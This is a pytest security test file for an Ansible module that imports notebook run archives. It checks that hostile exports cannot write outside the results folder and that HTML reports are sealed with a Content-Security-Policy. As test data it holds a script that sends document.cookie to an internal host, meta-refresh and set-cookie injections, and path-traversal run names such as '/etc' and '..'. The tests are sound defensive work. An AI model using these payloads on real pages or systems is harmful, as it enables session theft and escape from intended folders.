"""Hostile exports: nothing outside of results/ changes, nothing takes long or much, and the good run is fetched."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.edge_ai.cluster.plugins.module_utils import results as program

from tests.support import forks, hostile
from tests.support.paths import ROOT

SCHEMA = ROOT / "notebooks/timings.schema.json"
MODULE = "ansible_collections.edge_ai.cluster.plugins.modules.notebooks_state"


@pytest.fixture
def place() -> Iterator[Path]:
    """Folders that the user of an export may enter, unlike those of pytest."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
        Path(name).chmod(0o755)
        for folder in ("export", "outside", "results"):
            (Path(name) / folder).mkdir()
        (Path(name) / "outside/home").mkdir()
        (Path(name) / "outside/home/authorized_keys").write_text("mine")
        (Path(name) / "outside/secret").write_text("secret")
        (Path(name) / "outside/secret").chmod(0o600)
        yield Path(name)
        hostile.stop()


def bounded(done: forks.Done) -> forks.Done:
    """A program must take less than 10 s of a processor and 256 MB."""
    assert done.seconds < 11, "too long"
    assert done.kibibytes < 256 * 1024, f"{done.kibibytes} KiB"
    assert "Traceback" not in done.err, done.err
    return done


def run_module(**arguments: Any) -> forks.Done:
    return bounded(forks.run_module(MODULE, arguments))


def run_results(archive: Path, *arguments: str) -> forks.Done:
    with archive.open("rb") as given:
        return bounded(forks.run(program.__name__, arguments, given, late=["jsonschema"]))


def snapshot(folder: Path) -> dict[str, Any]:
    """All that is in a folder: kind, mode, time of change and content."""
    found = {}
    for path in sorted(folder.rglob("*")):
        status = path.lstat()
        content = path.read_bytes() if path.is_file() else b""
        found[str(path)] = (status.st_mode, status.st_uid, status.st_mtime_ns, content)
    return found


def state(place: Path) -> dict[str, Any]:
    files = {"notebooks/run.py": "0" * 64}
    done = run_module(export=str(place / "export"), files=files, inputs_digest="ab" * 32)
    found: dict[str, Any] = json.loads(done.out)
    assert done.code == 0, found
    return found


def collect(place: Path, found: dict[str, Any]) -> list[str]:
    """What notebooks_results does with the candidates, but for the way from the board; the messages."""
    messages: list[str] = []
    for one in found["candidates"]:
        target = program.target_of(place / "results", one["run"])
        archive = place / "export/runs" / target.name / "results.tar.gz"
        assert archive.lstat().st_size <= 32 << 20 and archive.is_file()
        done = run_results(archive, str(place / "results"), one["run"], one["archive_sha256"], str(SCHEMA))
        if done.code == 0:
            program.link(place / "results", one["run"])
            return messages
        assert not target.exists()
        messages.append(done.err)
    raise AssertionError(f"the good run did not come home: {messages}")


def belongs_to_the_share(export: Path) -> None:
    if os.geteuid() == 0:
        os.chown(export, 10001, 10001)
        for folder, folders, files in os.walk(export):
            for name in (*folders, *files):
                # A case that changes while it is read has files that are absent for a moment.
                with contextlib.suppress(FileNotFoundError):
                    os.chown(f"{folder}/{name}", 10001, 10001, follow_symlinks=False)


@pytest.mark.parametrize("name", sorted(hostile.CASES))
def test_a_hostile_run_does_no_harm_and_the_good_one_is_fetched(place: Path, name: str) -> None:
    hostile.build(place / "export", place / "outside", [name])
    belongs_to_the_share(place / "export")
    outside = snapshot(place / "outside")
    began = time.monotonic()
    found = state(place)
    messages = [*found["refused"], *collect(place, found)]
    assert time.monotonic() - began < 60
    assert snapshot(place / "outside") == outside
    assert not (place / "escaped").exists()
    home = sorted(path.name for path in (place / "results").iterdir())
    # What complete.json says of names is not used: such a run is fetched under the name of its folder.
    wanted = "20261122T021500Z-00000000" if name in ("absolute_run", "run_with_dots") else hostile.GOOD
    assert home == sorted((wanted, "latest")), messages
    assert (place / "results/latest").readlink() == Path(wanted)
    for message in messages:
        assert message.strip().isprintable(), repr(message)
        assert len(message) < 2000


def test_every_refusal_names_the_file(place: Path) -> None:
    # The one is refused nothing: all that it has is older than the good run.
    cases = sorted(hostile.CASES.keys() - {"a_hundred_thousand_entries"})
    hostile.build(place / "export", place / "outside", cases)
    belongs_to_the_share(place / "export")
    found = state(place)
    assert len(found["refused"]) > 10
    for message in found["refused"][:-1]:
        assert re.match(rf"{place}/export/runs/\S+", message), message


def test_folders_and_links_at_the_top_are_not_followed(place: Path) -> None:
    (place / "outside/runs").mkdir()
    hostile.good(place / "outside/runs" / hostile.GOOD)
    (place / "export/runs").symlink_to(place / "outside/runs")
    (place / "export/notebooks").symlink_to(place / "outside")
    belongs_to_the_share(place / "export")
    files = {"notebooks/secret": "0" * 64}
    done = run_module(export=str(place / "export"), files=files, inputs_digest="ab" * 32)
    assert done.code == 1
    assert f"{place}/export/runs: leads over a link or a file" in json.loads(done.out)["msg"]


def test_a_page_of_a_run_can_run_no_script(place: Path) -> None:
    page = b"<html><script>fetch('http://10.77.0.1/' + document.cookie)</script></html>"
    record = json.dumps(hostile.timings()).encode()
    hostile.complete(place / "export/runs" / hostile.GOOD, hostile.tar(("timings.json", record), ("report.html", page)))
    belongs_to_the_share(place / "export")
    assert collect(place, state(place)) == []
    written = (place / "results/latest/report.html").read_bytes()
    assert written.startswith(
        b'<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="default-src \'none\';'
    )
    assert written.endswith(page)


@pytest.mark.parametrize(
    "order",
    [
        b'<meta http-equiv="refresh" content="0;url=http://10.77.0.1/">',
        b"<META content='0;url=http://10.77.0.1/' HTTP-EQUIV=&#114;efresh>",
        b"<meta/hTTp-eQuiv=set-cookie content=a=b>",
    ],
)
def test_a_page_of_a_run_gives_the_browser_no_orders(tmp_path: Path, order: bytes) -> None:
    page = tmp_path / "report.html"
    page.write_bytes(b"<html><head>" + order + b"</head><body>seen</body></html>")
    program.seal(page)
    written = page.read_bytes()
    seal, _, rest = written.partition(b"<html>")
    # The first statement of the encoding counts: in others the bytes of a word need not be together.
    assert seal.endswith(b'<meta charset="utf-8">') and len(seal) < 1024
    assert b"form-action 'none'" in seal and b"base-uri 'none'" in seal
    assert not re.search(rb"[\s/]http-equiv", rest, re.IGNORECASE)
    assert rest.endswith(b"<body>seen</body></html>")


@pytest.mark.parametrize(
    "name", ["..", ".", "", "/etc", "latest", "20261101T000000Z-1a2b3c4d/..", "20261101T000000Z-1a2b3c4d\n"]
)
def test_a_name_that_is_no_run_s_is_refused_before_anything_is_touched(place: Path, name: str) -> None:
    (place / "archive").write_bytes(hostile.tar(hostile.record()))
    before = snapshot(place)
    done = run_results(place / "archive", str(place / "results"), name, "0" * 64, str(SCHEMA))
    assert done.code == 1 and "does not match" in done.err
    assert snapshot(place) == before


def test_what_a_killed_run_left_is_replaced_and_a_link_in_its_place_is_not_followed(place: Path) -> None:
    (place / "results" / hostile.GOOD).symlink_to(place / "outside")
    hostile.build(place / "export", place / "outside", [])
    belongs_to_the_share(place / "export")
    outside = snapshot(place / "outside")
    assert collect(place, state(place)) == []
    assert snapshot(place / "outside") == outside
    assert not (place / "results" / hostile.GOOD).is_symlink()
    shutil.rmtree(place / "results" / hostile.GOOD)
